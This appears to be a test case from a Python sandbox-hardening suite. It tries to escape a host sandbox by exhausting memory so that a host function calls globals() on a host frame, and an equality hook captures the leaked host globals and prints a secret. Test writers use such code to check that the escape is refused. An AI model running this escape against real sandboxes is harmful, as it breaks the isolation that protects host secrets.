"""globals() is called by C on top of a host frame for which no frame object can be made

Technique: memory is full, so whoever asks which frame calls gets no answer; keep the tracebacks, which hold memory
Versions: 3.11 3.12 3.13
Origin: own search
Expected: MemoryError or PermissionError or SystemError
Harness: host
Memory: 500
"""

loot = []


class End:
    def __eq__(self, other):
        loot.append(other)
        return True

    __hash__ = None


COUNT = 400_000
places = iter(list(range(COUNT)))
hold = [None] * COUNT
kept = [None] * 20
iterator = iter(globals, End())
loot.extend(kept)
loot.clear()
sizes = [1 << k for k in (33, 30, 26, 22, 18, 16, 14, 12, 11, 10)] + list(range(1000, 120, -8))
turns = list(range(len(kept)))


def fill(size):
    try:
        while True:
            hold[next(places)] = bytes(size)
    except (MemoryError, StopIteration):
        return


def attack():
    for size in sizes:
        fill(size)
    for turn in turns:
        try:
            host_list_consume(iterator)
        except BaseException as error:
            kept[turn] = error  # with its traceback, which holds the frame
        if loot:
            return


attack()
hold = None
if loot:
    print(f"ESCAPED: {loot[0]['HOST_SECRET']!r:.120}")
else:
    error = next(error for error in kept if error is not None)
    print(f"REFUSED: {type(error).__name__}: {error}")
